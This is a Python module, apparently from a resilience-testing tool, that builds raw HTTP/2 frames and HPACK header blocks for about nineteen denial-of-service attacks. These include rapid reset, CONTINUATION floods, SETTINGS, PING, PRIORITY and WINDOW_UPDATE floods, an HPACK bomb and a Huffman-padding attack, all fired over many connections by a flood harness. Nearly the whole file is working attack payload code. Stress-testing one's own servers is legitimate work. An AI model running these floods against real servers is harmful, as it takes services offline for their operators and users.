# SPDX-License-Identifier: MIT
"""Attacks on HTTP/2: frames and header blocks that cost a client next to nothing, sent as fast as they are taken."""

from __future__ import annotations

import asyncio
import contextlib
import itertools

from hostile.attack import Attack, Play, Target, crowd, rounds

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_HEAD_BYTES = 9
_CONNECTIONS, _SOURCES = 20, 5
_FRAMES = 30_000
"""More of one kind than a decky takes in a connection."""
_REQUESTS = 1000
"""As many as a decky takes in a connection."""
_STREAMS = 120


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113 §4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def answers(received: bytearray) -> int:
    """Take whole frames out of `received`; return how many of them begin an answer."""
    found = start = 0
    while len(received) >= (begin := start + _HEAD_BYTES):
        end = begin + int.from_bytes(received[start : start + 3], "big")
        if end > len(received):
            break
        found += received[start + 3] == HEADERS
        start = end
    del received[:start]
    return found


async def _count_answers(target: Target, reader: asyncio.StreamReader) -> None:
    received = bytearray()
    while chunk := await reader.read(1 << 16):
        received += chunk
        target.answered("http.request", answers(received))


def flood(data: bytes, requests: int, *, reads: bool = True) -> Play:
    """Send `data`, which holds at most that many requests, on a new connection until it ends, again and again.

    Who does not read holds the connection until time is up.
    """

    async def once(target: Target, source: int) -> None:
        reader, writer = await target.tls(source, "h2")
        try:
            target.sent("http.request", requests)
            writer.write(data)
            if not reads:
                return await target.stay()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(target.left, 0.1)):
                    await _count_answers(target, reader)
        finally:
            writer.transport.abort()

    async def one(target: Target, source: int) -> None:
        await rounds(target, lambda: once(target, source))

    return crowd(_CONNECTIONS, one, _SOURCES)


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
GET = bytes.fromhex("828487") + b"\x01\x01x"
"""`GET / https x`: three fields of the static table (RFC 7541 §A), and a host that enters no table."""
STREAMS = range(1, 2 * _REQUESTS, 2)


def window(size: int) -> bytes:
    """Return SETTINGS of how much of each answer may be sent."""
    return frame(SETTINGS, 0, 0, b"\0\4" + size.to_bytes(4, "big"))


def gets(block: bytes, streams: range = STREAMS) -> bytes:
    """Return a request on each stream, with `block` as its fields."""
    return b"".join(frame(HEADERS, _END_STREAM | _END_HEADERS, stream, block) for stream in streams)


_FIRST = STREAMS[:_STREAMS]
_OPEN = frame(HEADERS, _END_STREAM, 1, GET)
"""Fields of which more follow."""
BYTE_CONTINUATIONS = HELLO + _OPEN + frame(CONTINUATION, 0, 1, b"\x82") * _FRAMES
EMPTY_CONTINUATIONS = HELLO + _OPEN + frame(CONTINUATION, 0, 1) * _FRAMES
LARGE_CONTINUATIONS = HELLO + _OPEN + frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3000) * 1000
RESETS = HELLO + b"".join(gets(GET, range(one, one + 1)) + frame(RESET, 0, one, bytes(4)) for one in STREAMS)
WINDOWS = HELLO + window(0) + gets(GET, _FIRST) + (window(1) + window(0)) * (_FRAMES // 2)
"""Every change concerns all answers that wait, a byte of each can be sent, and another SETTINGS is to be answered."""
UPDATES = HELLO + window(0) + gets(GET, _FIRST) + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * _FRAMES
EMPTY_DATA = HELLO + frame(HEADERS, _END_HEADERS, 1, b"\x83" + GET[1:]) + frame(DATA, 0, 1) * _FRAMES
PRIORITIES = HELLO + b"".join(
    frame(PRIORITY, 0, stream, b"\0\0\0\0\xff") for stream in itertools.islice(itertools.cycle(STREAMS), _FRAMES)
)
_SOME = STREAMS[:200]
_ENTRY = b"\x40\1a\x7f\xa1\x1e" + b"x" * 4000
"""A field of 4,000 bytes that fills the dynamic table (RFC 7541 §6.2.1)."""
BOMB = HELLO + gets(GET + _ENTRY, STREAMS[:1]) + gets(GET + b"\xbe" * 16_000, STREAMS[1:])
"""Two bytes of each frame stand for 8,000."""
REFERENCES = HELLO + gets(GET + _ENTRY, STREAMS[:1]) + gets(GET + b"\xbe" * 7, STREAMS[1:])
EVICTIONS = HELLO + gets(GET + b"\x40\1a\0" * 900, _SOME)
RESIZED = HELLO + gets(b"\x20\x3f\xe1\x1f" * 1000 + GET, _SOME)
HUFFMAN = HELLO + gets(GET + (b"\0\1a\xff\x89\x26" + bytes(5000)) * 3, _SOME)
"""Zeros of five bits (§B): 8,000 of them in each of three fields."""

ATTACKS = (
    Attack("https: HTTP/2 GETs, 1,000 a connection", flood(HELLO + gets(GET), _REQUESTS)),
    Attack("https: HTTP/2 GETs, unread", flood(HELLO + gets(GET), _REQUESTS, reads=False)),
    Attack("https: HTTP/2 rapid reset", flood(RESETS, _REQUESTS), short=True),
    Attack("https: HTTP/2 CONTINUATION, empty", flood(EMPTY_CONTINUATIONS, 1)),
    Attack("https: HTTP/2 CONTINUATION of a byte", flood(BYTE_CONTINUATIONS, 1)),
    Attack("https: HTTP/2 CONTINUATION of 12 KB", flood(LARGE_CONTINUATIONS, 1)),
    Attack("https: HTTP/2 SETTINGS", flood(HELLO + window(1) * _FRAMES, 0)),
    Attack("https: HTTP/2 SETTINGS, unread", flood(HELLO + window(1) * _FRAMES, 0, reads=False)),
    Attack("https: HTTP/2 windows of a byte", flood(WINDOWS, _STREAMS)),
    Attack("https: HTTP/2 WINDOW_UPDATE", flood(UPDATES, _STREAMS)),
    Attack("https: HTTP/2 PING", flood(HELLO + frame(PING, 0, 0, bytes(8)) * _FRAMES, 0)),
    Attack("https: HTTP/2 PING, unread", flood(HELLO + frame(PING, 0, 0, bytes(8)) * _FRAMES, 0, reads=False)),
    Attack("https: HTTP/2 PRIORITY", flood(PRIORITIES, 0)),
    Attack("https: HTTP/2 empty DATA", flood(EMPTY_DATA, 1)),
    Attack("https: HPACK bomb", flood(BOMB, _REQUESTS)),
    Attack("https: HPACK, 28 KB of references each", flood(REFERENCES, _REQUESTS)),
    Attack("https: HPACK, 900 evictions each", flood(EVICTIONS, len(_SOME))),
    Attack("https: HPACK, table resized 2,000 times", flood(RESIZED, len(_SOME))),
    Attack("https: HPACK, 24 KB of Huffman's code", flood(HUFFMAN, len(_SOME))),
)  # fmt: skip
